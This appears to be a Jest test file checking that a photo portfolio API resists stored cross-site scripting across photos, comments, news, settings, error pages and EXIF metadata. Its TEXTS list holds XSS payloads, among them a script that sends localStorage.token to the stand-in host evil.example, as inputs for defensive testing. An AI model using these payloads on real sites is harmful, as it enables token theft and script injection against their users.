import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { aJpegWithScripts, createPhoto, PAYLOAD } from '@portfolio/testing';
import { BOUNDARY, multipart } from '../multipart.ts';
import { startTestApi, type TestApi } from '../start-test-api.ts';

/** Feeds, share tags and pages are in public-web/server/security/stored-xss.test.ts. */
const TEXTS = [
  '<script>fetch("//evil.example/?"+localStorage.token)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '</title></textarea></style><svg/onload=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
];

let api: TestApi;
let admin: Awaited<ReturnType<TestApi['signIn']>>;
beforeAll(async () => {
  api = await startTestApi();
  admin = await api.signIn();
});
afterAll(() => api.stop());
beforeEach(() => api.database.query('truncate photos, galleries, news_items, messages restart identity cascade'));

/** A browser that opens the address must not take it for a page. */
function expectNoPage({ headers }: { headers: Record<string, string> }) {
  expect(headers['content-type']).toMatch(/^application\/json/);
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['content-security-policy']).toMatch(/^default-src 'none';.*; sandbox$/);
}

describe.each(TEXTS)('%s', (text) => {
  it('is stored as typed and returned as JSON', async () => {
    const photo = await createPhoto(api.database);
    const details = { title: text, description: text, alt_text: text };
    expectNoPage(await admin.put(`/api/photos/${photo.id}`).send(details).expect(200));
    await admin.post('/api/news').send({ headline: text, content: text }).expect(201);
    const comment = { photo_id: photo.id, author_name: 'Ruth', author_email: 'ruth@example.com', content: text };
    expectNoPage(await api.visitor.post('/api/comments').send(comment).expect(201));

    const response = await api.visitor.get(`/api/photos/${photo.id}`).expect(200);
    expect(response.body.photo).toMatchObject(details);
    expectNoPage(response);
    expectNoPage(await api.visitor.get('/api/photos').query({ search: text }).expect(200));
    expectNoPage(await admin.get('/api/comments').expect(200));
  });

  it('is rejected as a slug or a link', async () => {
    await admin.post('/api/galleries').send({ title: 'x', slug: text }).expect(400);
    const { body } = await admin.post('/api/news').send({ headline: 'x', link: text }).expect(400);
    expect(Object.keys(body.errors)).toEqual(['link']);
    for (const name of ['licence_url', 'social_links']) {
      const settings = { [name]: text };
      const response = await admin.put('/api/admin/settings/website').send({ settings }).expect(400);
      expect(Object.keys(response.body.errors)).toEqual([name]);
    }
  });

  it('is no HTML in an error', async () => {
    expectNoPage(await api.visitor.get(`/api/galleries/${encodeURIComponent(text)}`));
    expectNoPage(await api.visitor.get(`/media/1/2/${encodeURIComponent(text)}`));
    expectNoPage(await api.visitor.get(`/${encodeURIComponent(text)}`));
  });
});

it('a script in EXIF data is text', async () => {
  const jpeg = await aJpegWithScripts();
  expect(jpeg.includes(PAYLOAD)).toBe(true);
  const form = multipart([
    { name: 'title', content: 'Harbour' },
    { name: 'image', filename: 'harbour.jpg', type: 'text/html', content: jpeg },
  ]);
  const { body } = await admin
    .post('/api/photos/upload')
    .set('content-type', `multipart/form-data; boundary=${BOUNDARY}`)
    .send(form)
    .expect(201);

  // As typed by an administrator: pages escape it.
  const response = await admin.get(`/api/photos/${body.photo.id}`).expect(200);
  expect(response.body.photo.description).toBe(PAYLOAD);
  expectNoPage(response);
  const { tags, upload } = response.body.photo;
  expect([tags, upload.creator, upload.copyright]).toEqual([[], PAYLOAD, PAYLOAD]);
});

it('the documentation page runs its own scripts only', async () => {
  const { headers } = await api.visitor.get('/api/docs').expect(200);

  expect(headers['content-security-policy']).toMatch(/script-src 'self';.*frame-ancestors 'none'/);
  expect(headers['content-security-policy']).not.toMatch(/script-src[^;]*unsafe/);
  expect(headers['x-frame-options']).toBe('DENY');
});
